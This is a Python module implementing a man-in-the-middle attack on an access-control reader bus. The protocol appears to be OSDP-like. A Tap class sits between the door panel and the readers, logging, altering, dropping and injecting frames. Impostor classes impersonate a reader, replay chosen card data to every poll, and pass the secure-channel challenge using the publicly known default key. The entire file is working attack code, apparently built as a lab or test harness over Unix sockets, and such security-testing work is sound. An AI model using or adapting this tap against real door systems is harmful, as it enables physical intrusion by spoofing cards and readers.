"""A man in the middle of a reader bus: he hears every byte between the door role and the board, and
may keep, change, add and answer messages. He has no key of anybody's.
"""

import os
import selectors
import socket
import subprocess
import threading

MARK, SOM = 0xFF, 0x53
POLL, ID, CAP, COMSET, KEYSET, CHLNG, SCRYPT = 0x60, 0x61, 0x62, 0x6E, 0x75, 0x76, 0x77
ACK, NAK, PDID, PDCAP, RAW, CCRYPT, BUSY = 0x40, 0x41, 0x45, 0x46, 0x50, 0x76, 0x79
NAK_CHECK, NAK_SEQUENCE, NAK_SECURITY, NAK_ENCRYPTION = 1, 4, 5, 6
CONTROL_CRC, CONTROL_SECURED, REPLY = 4, 8, 0x80
MAC_SIZE = 4
DEFAULT_KEY = bytes(range(0x30, 0x40))
HEARD_MAX = 20000


def crc16(data):
    crc = 0x1D0F
    for byte in data:
        crc ^= byte << 8
        for _ in range(8):
            crc = (crc << 1 ^ 0x1021 if crc & 0x8000 else crc << 1) & 0xFFFF
    return crc


def aes(key, block):
    """One block; whoever has no library has the command."""
    return subprocess.run(["openssl", "enc", "-aes-128-ecb", "-nopad", "-K", key.hex()],
                          input=block, capture_output=True, check=True).stdout


def client_cryptogram(key, rnd_a, rnd_b):
    session = aes(key, bytes([0x01, 0x82]) + rnd_a[:6] + bytes(8))
    return aes(session, rnd_a + rnd_b)


class Frame:
    """One message. block is the security block without its length; data holds what follows the
    code, with the MAC where there is one.
    """

    def __init__(self, address, is_reply, sequence, code, data=b"", block=b""):
        self.address, self.is_reply, self.sequence = address, is_reply, sequence
        self.code, self.data, self.block = code, data, block

    @staticmethod
    def parse(raw):
        """None when it is no frame with a correct CRC."""
        if len(raw) < 8 or not raw[4] & CONTROL_CRC or crc16(raw[:-2]).to_bytes(2, "little") != raw[-2:]:
            return None
        start = 5 + (raw[5] if raw[4] & CONTROL_SECURED else 0)
        return Frame(raw[1] & 0x7F, bool(raw[1] & REPLY), raw[4] & 3, raw[start], raw[start + 1:-2],
                     raw[6:start])

    def pack(self):
        block = bytes([len(self.block) + 1]) + self.block if self.block else b""
        control = self.sequence | CONTROL_CRC | (CONTROL_SECURED if block else 0)
        body = block + bytes([self.code]) + self.data
        head = bytes([SOM, self.address | (REPLY if self.is_reply else 0)])
        raw = head + (5 + len(body) + 2).to_bytes(2, "little") + bytes([control]) + body
        return raw + crc16(raw).to_bytes(2, "little")

    def answer(self, code, data=b"", block=b"", sequence=None):
        return Frame(self.address, True, self.sequence if sequence is None else sequence, code, data,
                     block)

    def changed(self, **members):
        frame = Frame(self.address, self.is_reply, self.sequence, self.code, self.data, self.block)
        vars(frame).update(members)
        return frame


class Attack:
    """What he does with what he hears: returns the message that goes on its way, or None."""

    tap = None
    address = 0  # of the reader that he is after

    def command(self, frame):
        return frame

    def reply(self, frame):
        return frame


class Tap:
    """Between two sockets. attack may be set at any time; heard is all that has passed, as it came."""

    def __init__(self, bus, front, back):
        self.bus, self.back = bus, back
        self.heard = []
        self.lock = threading.Lock()
        self._attack = Attack()
        self.selector = selectors.DefaultSelector()
        self.panel = self.board = None
        self.rest = {}
        self.listener = socket.socket(socket.AF_UNIX)
        self.listener.bind(front)
        self.listener.listen(1)
        self.waker, self.wakes = socket.socketpair()
        self.selector.register(self.listener, selectors.EVENT_READ, self.accept)
        self.selector.register(self.wakes, selectors.EVENT_READ, None)
        self.thread = threading.Thread(target=self.run, daemon=True)
        self.thread.start()

    def stop(self):
        self.waker.send(b"x")
        self.thread.join()

    @property
    def attack(self):
        return self._attack

    @attack.setter
    def attack(self, attack):
        with self.lock:
            self._attack = attack or Attack()
            self._attack.tap = self

    def run(self):
        while True:
            for key, _ in self.selector.select():
                if not key.data:
                    return
                key.data()

    def accept(self):
        panel, _ = self.listener.accept()
        board = socket.socket(socket.AF_UNIX)
        self.drop()
        try:
            board.connect(self.back)
        except OSError:
            panel.close()
            return
        self.panel, self.board = panel, board
        self.rest = {panel: b"", board: b""}
        self.selector.register(panel, selectors.EVENT_READ, self.from_panel)
        self.selector.register(board, selectors.EVENT_READ, self.from_board)

    def drop(self):
        for end in (self.panel, self.board):
            if end:
                self.selector.unregister(end)
                end.close()
        self.panel = self.board = None

    def frames(self, end):
        """The messages that are complete by now; None when this end is gone."""
        try:
            got = end.recv(4096)
        except OSError:
            got = b""
        if not got:
            return None
        found, rest = [], self.rest[end] + got
        while (start := rest.find(SOM)) >= 0:
            size = int.from_bytes(rest[start + 2:start + 4], "little")
            if len(rest) < start + 4 or len(rest) < start + size:
                break
            frame = Frame.parse(rest[start:start + size])
            rest = rest[start + (size if frame else 1):]
            if frame:
                found.append(frame)
        self.rest[end] = rest
        return found

    def pass_on(self, end, to, decide):
        frames = self.frames(end)
        if frames is None:
            self.drop()
            return
        for frame in frames:
            with self.lock:
                if len(self.heard) < HEARD_MAX:
                    self.heard.append(frame)
                frame = decide(frame)
                if frame:
                    self.send(to, frame)

    def from_panel(self):
        self.pass_on(self.panel, self.board, lambda frame: self._attack.command(frame))

    def from_board(self):
        self.pass_on(self.board, self.panel, lambda frame: self._attack.reply(frame))

    @staticmethod
    def send(end, frame):
        try:
            end.sendall(bytes([MARK]) + frame.pack())
        except OSError:
            pass

    def say(self, frame):
        """To the panel, in the reader's name."""
        self.send(self.panel, frame)

    def order(self, frame):
        """To the readers, in the panel's name."""
        self.send(self.board, frame)


class Impostor(Attack):
    """Sits where the reader was: the panel hears nothing until it starts over, and then him.

    card is what he answers to every poll: the data of a RAW reply, in clear.
    """

    def __init__(self, identity, capabilities, card=None):
        self.identity, self.capabilities, self.card = identity, capabilities, card
        self.has_begun = False
        self.challenges = 0

    def command(self, frame):
        if frame.address != self.address:
            return frame
        self.has_begun = self.has_begun or (frame.sequence == 0 and frame.code == ID)
        if self.has_begun:
            self.tap.say(self.answer(frame))
        return None

    def answer(self, frame):
        if frame.code == ID:
            return frame.answer(PDID, self.identity)
        if frame.code == CAP:
            return frame.answer(PDCAP, self.capabilities)
        if frame.code == CHLNG:
            self.challenges += 1
            return self.challenge(frame)
        if frame.code == POLL and self.card:
            return frame.answer(RAW, self.card)
        return frame.answer(ACK)

    def challenge(self, frame):
        return frame.answer(NAK, bytes([NAK_SECURITY]))


class DefaultKeyImpostor(Impostor):
    """Claims to be a reader as new: answers the challenge with the key that everybody knows."""

    def __init__(self, *args, flag=0):
        super().__init__(*args)
        self.flag = flag

    def challenge(self, frame):
        rnd_b = os.urandom(8)
        proof = client_cryptogram(DEFAULT_KEY, frame.data[:8], rnd_b)
        return frame.answer(CCRYPT, self.identity[:8] + rnd_b + proof, bytes([0x12, self.flag]))
